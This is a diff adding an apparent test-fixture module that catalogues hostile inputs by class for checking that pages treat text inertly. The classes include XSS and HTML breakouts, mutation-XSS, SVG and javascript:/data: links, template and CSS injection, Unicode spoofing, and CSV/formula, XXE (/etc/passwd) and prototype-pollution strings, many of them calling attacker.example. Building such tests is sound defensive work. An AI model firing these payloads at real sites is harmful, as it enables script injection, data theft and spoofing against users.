@@ -1,0 +1,245 @@
+"""Texts that would run, ask elsewhere or break out of their place if any page took them for more than text.
+
+`TOKEN` stands for a word of its own in each place; whatever came alive would leave it in `window.__ran` or
+ask `attacker.example` for it. By class, so that each text field meets every class.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from types import MappingProxyType
+
+_RUN = "window.__ran='TOKEN'"
+_ASK = "//attacker.example/TOKEN"
+_HTML = (
+    f"<script>{_RUN}</script>",
+    f"<ScRiPt\n>{_RUN}</sCrIpT\t>",
+    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
+    f"<script src={_ASK}></script>",
+    f"<img src=x onerror={_RUN}>",
+    f"<img/src='{_ASK}'/onerror='{_RUN}'//",
+    f"<body onload={_RUN}><input autofocus onfocus={_RUN}>",
+    f"<iframe srcdoc='<script>parent.__ran=1</script>' src='{_ASK}'></iframe>",
+    f"<object data='{_ASK}'></object><embed src='{_ASK}'>",
+    f"<details open ontoggle={_RUN}><marquee onstart={_RUN}>TOKEN",
+    f"<base href='{_ASK}/'><meta http-equiv=refresh content='0;url={_ASK}'>",
+    f"<form action='javascript:{_RUN}'><button formaction='{_ASK}'>TOKEN</form>",
+    f"<video poster={_ASK}><source onerror={_RUN}></video><audio src={_ASK} autoplay>",
+    f"<link rel=stylesheet href={_ASK}><link rel=prefetch href={_ASK}>",
+    "</main></body></html><h1>TOKEN</h1>",
+    "</td></tr></table></div></section><h1>TOKEN</h1>",
+    "<a href='javascript:window.__ran=1' id=TOKEN name=attributes><input name=TOKEN>",
+    "<form id=documentElement><input name=attributes>TOKEN",
+    "<custom-thing is=TOKEN></custom-thing><slot name=TOKEN>",
+    f"<img srcset='{_ASK} 2x' sizes=100vw loading=eager>TOKEN",
+)
+_BREAKING_OUT = (
+    f'TOKEN" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
+    "TOKEN' onmouseover='window.__ran=1' tabindex=0 onfocus='window.__ran=1' x='",
+    "TOKEN` onmouseover=`window.__ran=1` x=`",
+    f'TOKEN"><img src=x onerror={_RUN}>',
+    f"TOKEN'><svg onload={_RUN}>",
+    f"TOKEN --><script>{_RUN}</script><!--",
+    f"TOKEN --!><img src=x onerror={_RUN}>",
+    "TOKEN <!-- an unclosed comment",
+    "TOKEN <![CDATA[ an unclosed section",
+    "TOKEN <?php an unclosed instruction",
+    f"</title><script>{_RUN}</script>TOKEN",
+    f"</textarea><img src=x onerror={_RUN}>TOKEN",
+    f"</style><script>{_RUN}</script>TOKEN",
+    f"</script><script>{_RUN}</script>TOKEN",
+    f"</noscript><img src=x onerror={_RUN}>TOKEN",
+    f"</template></select></option><img src=x onerror={_RUN}>TOKEN",
+    "TOKEN < img",
+    'TOKEN <a href="x',
+    "TOKEN <plaintext>",
+    "TOKEN <xmp><listing></listing>",
+)
+_MUTATED = (
+    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">TOKEN',
+    f"<template><img src=x onerror={_RUN}></template>TOKEN",
+    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror={_RUN}&gt;">TOKEN',
+    f'<svg><style><img src="</style><img src=x onerror={_RUN}>">TOKEN',
+    f"<svg><foreignObject><body onload={_RUN}><iframe src={_ASK}></foreignObject></svg>",
+    f"<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>TOKEN</maction></math>",
+    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>TOKEN",
+    f"<select><style><img src=x onerror={_RUN}></style></select>TOKEN",
+    f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">TOKEN',
+    f"<table><a href=x><td><img src=x onerror={_RUN}>TOKEN</table>",
+    f"<div><template shadowrootmode=open><script>{_RUN}</script></template>TOKEN</div>",
+    f'<xss style="animation-name:x" onanimationstart="{_RUN}">TOKEN',
+)
+_SVG = (
+    f"<svg onload={_RUN}>TOKEN",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><use href=\"data:image/svg+xml,&lt;svg id='x' onload='{_RUN}'/&gt;#x\"/></svg>TOKEN",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>TOKEN",
+    f'<svg><a xlink:href="javascript:{_RUN}"><text y=20>TOKEN</text></a></svg>',
+    f'<svg><set attributeName=onmouseover to="{_RUN}"/></svg>TOKEN',
+    f'<svg><image href="{_ASK}"/><feImage href="{_ASK}"/></svg>',
+    "</text></svg><h1>TOKEN</h1>",
+    f"</title></svg><script>{_RUN}</script>TOKEN",
+    f'<svg><animate href=#x attributeName=href values="javascript:{_RUN}"/><a id=x><text>TOKEN</text></a>',
+    "TOKEN ]]></text><script xmlns='http://www.w3.org/2000/svg'>window.__ran=1</script><![CDATA[",
+    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x; TOKEN</svg>",
+)
+LINKS = (
+    f"javascript:{_RUN}",
+    f"JaVaScRiPt:{_RUN}",
+    f"java\tscript:{_RUN}",
+    f"java\nscript:{_RUN}",
+    f" \x1fjavascript:{_RUN}",
+    f"javascript&colon;{_RUN}",
+    f"&#106;avascript:{_RUN}",
+    f"&#x6A&#x61vascript:{_RUN}",
+    f"\u017favascript:{_RUN}",
+    f"javascript\uff1a{_RUN}",
+    f"javascript://attacker.example/%0A{_RUN}",
+    f"javascript:{_RUN}//https://example.org",
+    f"data:text/html,<script>{_RUN}</script>",
+    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49MTwvc2NyaXB0Pg==#TOKEN",
+    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{_RUN}\"/>",
+    'vbscript:msgbox("TOKEN")',
+    "blob:null/TOKEN",
+    "file:///etc/passwd#TOKEN",
+    "view-source:javascript:TOKEN",
+    "intent://attacker.example/TOKEN#Intent;scheme=https;end",
+    _ASK,
+    "\\\\attacker.example\\TOKEN",
+    "/\\attacker.example/TOKEN",
+    "https:attacker.example/TOKEN",
+    "https:///attacker.example/TOKEN",
+    "/\t/attacker.example/TOKEN",
+    "http://\u202eelpmaxe.rekcatta/TOKEN",
+    "https://attacker.example\u200b/TOKEN",
+    "mailto:TOKEN@attacker.example?bcc=a@b%0d%0aX: y\nz",
+    f'https://"onmouseover="{_RUN}"/',
+    "//[TOKEN",
+    "https://[::1/TOKEN",
+)
+LEGAL_LINKS = (
+    "https://example.org@attacker.example/TOKEN",
+    "https://attacker.example/TOKEN?a=\"><img/src=x/onerror=window.__ran=1>&b='x'",
+    "HTTPS://attacker.example/TOKEN#</script><script>window.__ran=1</script>",
+    "mailto:TOKEN@attacker.example?subject=<b>",
+    "https://\u0430ttacker.example/TOKEN",
+)
+"""Addresses that are allowed, though nobody should like them: links of ours, never asked by a page itself."""
+_ENTITIES = (
+    f"&lt;img src=x onerror={_RUN}&gt;",
+    f"&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
+    "&#60;b&#62;TOKEN&#x3c;/b&#x3e; &lt &lt; &nbsp &notanentity; &",
+    f"%3Cscript%3E{_RUN}%3C/script%3E",
+    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
+    f"\\x3cimg src=x onerror={_RUN}\\x3e",
+    "TOKEN &quot; onmouseover=&quot;window.__ran=1",
+    "+ADw-script+AD4-window.__ran='TOKEN'+ADw-/script+AD4-",
+    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
+)
+_TEMPLATES = (
+    "TOKEN {{7*7}} {{ site.__class__.__mro__ }}",
+    "TOKEN {% for x in range(9) %}{{ x }}{% endfor %} {# gone #}",
+    "TOKEN ${7*7} #{7*7} <%= 7*7 %> @(7*7) [[7*7]]",
+    "TOKEN {{constructor.constructor(\"window.__ran='TOKEN'\")()}}",
+    '<div v-html="\'TOKEN\'" ng-app x-data="window.__ran=1" @click="x">{{TOKEN}}</div>',
+    "TOKEN {0.__class__} {page} %(page)s %s %d {} {!r:>99}",
+    "TOKEN `${window.__ran='TOKEN'}` $& $1 $` $'",
+    "TOKEN \\1 \\g<0> \\n \\",
+)
+_VEGA = (
+    "TOKEN datum['x'] + signal(window.__ran=1)",
+    '{"signal": "window.__ran=\'TOKEN\'"}',
+    '{"signals": [{"name": "TOKEN", "update": "open(\'//attacker.example/TOKEN\')"}]}',
+    '{"href": {"value": "javascript:window.__ran=\'TOKEN\'"}, "url": "//attacker.example/TOKEN"}',
+    '{"$schema": "https://vega.github.io/schema/vega/v5.json", "data": {"url": "//attacker.example/TOKEN"}}',
+    "TOKEN.a[0]['b'].c\\.d",
+    "event.view.__ran='TOKEN'",
+)
+_CSS = (
+    "TOKEN; background:url(//attacker.example/TOKEN)",
+    "TOKEN}*{background:url(//attacker.example/TOKEN)}",
+    "</style><style>@import '//attacker.example/TOKEN';",
+    "TOKEN: expression(window.__ran=1); -moz-binding:url(//attacker.example/TOKEN)",
+    "<p style=\"position:fixed;inset:0;background:url('//attacker.example/TOKEN')\">TOKEN</p>",
+    "<style>*{display:none} @font-face{font-family:x;src:url(//attacker.example/TOKEN)}</style>",
+    '" style="position:fixed;inset:0" TOKEN="',
+    "TOKEN' class='banner' hidden id='main",
+)
+_UNICODE = (
+    "TOKEN \u202egnp.exe\u202c \u2066isolated \u202b",
+    "TOKEN zero\u200bwidth\u200d\u2060\ufeff\u00adhere",
+    "TOKEN Z\u0351\u036b\u0343\u036a\u0302\u036b" + "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 8,
+    "TOKEN \u0440\u0430ypal \u04bb\u0435\u0430lth \u2160\u216f \uff34\uff2f",
+    "TOKEN\u2028line\u2029paragraph\u0085next",
+    "\ufeffTOKEN begins with a mark",
+    "TOKEN" + "w" * 300,
+    "TOKEN \U000e0041\U000e0042 \ufff9\ufffa\ufffb \U0001f468\u200d\U0001f469\u200d\U0001f467",
+    "TOKEN \u06dd\u0600\u0604 \ufdfd \u3164\u115f \u2800",
+    "TOKEN \u0130\u0131\u1e9e\ufb01\u01c5",
+)
+_DATA = (
+    f"</script><script>{_RUN}</script>",
+    "<!--<script>TOKEN",
+    'TOKEN \u2028"; window.__ran=1; //',
+    'TOKEN\\"; window.__ran=1; //',
+    "TOKEN */ window.__ran=1 /*",
+    "__proto__",
+    "constructor",
+    "TOKEN ]]> <x/> &TOKEN;",
+    "TOKEN\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:taken",
+    "TOKEN\nAllow: /\nSitemap: //attacker.example/TOKEN",
+    'TOKEN" /><meta property="og:image" content="//attacker.example/TOKEN',
+    '=HYPERLINK("//attacker.example/TOKEN")',
+    "@SUM(1+1)*cmd|'/c calc'!A0 TOKEN",
+    "hasOwnProperty",
+    "toString",
+    'TOKEN,TOKEN;"TOKEN"\tTOKEN',
+    'TOKEN {"__proto__": {"isAdmin": true}}',
+)
+_MARKDOWN = (
+    f"[TOKEN](javascript:{_RUN}) ![TOKEN](//attacker.example/TOKEN)",
+    f"[TOKEN](<java\tscript:{_RUN}>) <javascript:{_RUN}>",
+    f"TOKEN\n\n[TOKEN]: javascript:{_RUN} (onmouseover=window.__ran=1)",
+    f'![x](x"onerror="{_RUN}) TOKEN',
+    f"`TOKEN` <script>{_RUN}</script> **TOKEN <img src=x onerror={_RUN}>**",
+    "TOKEN\n\n# A heading {: onclick=window.__ran=1 style=position:fixed }\n\n---\n",
+    "TOKEN\n\n```html\n</code></pre><script>window.__ran=1</script>\n```\n",
+    f"[TOKEN](data:text/html,<script>{_RUN}</script>) [x](vbscript:x) [y](//attacker.example/TOKEN)",
+    '| TOKEN | <b>b</b> |\n|---|---|\n| </td></table><h1>TOKEN | " onload=x |',
+    "TOKEN[^1]\n\n[^1]: <svg onload=window.__ran=1> *[HTML]: <b>",
+)
+ATTACKS: Mapping[str, tuple[str, ...]] = MappingProxyType(
+    {
+        "html": _HTML,
+        "breaking-out": _BREAKING_OUT,
+        "mutated": _MUTATED,
+        "svg": _SVG,
+        "links": LINKS,
+        "legal-links": LEGAL_LINKS,
+        "entities": _ENTITIES,
+        "templates": _TEMPLATES,
+        "vega": _VEGA,
+        "css": _CSS,
+        "unicode": _UNICODE,
+        "data": _DATA,
+        "markdown": _MARKDOWN,
+    }
+)
+"""All of them, by class."""
+ADDRESSES = (
+    "?q=<img src=x onerror=window.__ran=1>",
+    "?q=</script><script>window.__ran=1</script>&page=2",
+    '?q=name:"><svg onload=window.__ran=1>&sort=__proto__&desc=1',
+    "?m=<img src=x onerror=window.__ran=1>,__proto__@constructor",
+    "?m=javascript:window.__ran=1&baseline=//attacker.example",
+    "?x=constructor&y=__proto__&colour=<b>&model=../../x&path=//attacker.example/x",
+    "?next=javascript:window.__ran=1&url=//attacker.example/x&file=//attacker.example/x.js",
+    "?__proto__[src]=//attacker.example/x&__proto__.innerHTML=<img src=x onerror=window.__ran=1>",
+    "#<img src=x onerror=window.__ran=1>",
+    "#javascript:window.__ran=1",
+    "#:~:text=<script>",
+    '#"],body,[x="',
+    "#%",
+    "?q=%&m=%E0%A4%A&page=-1e999",
+)
+"""What an address may end in, on any page."""
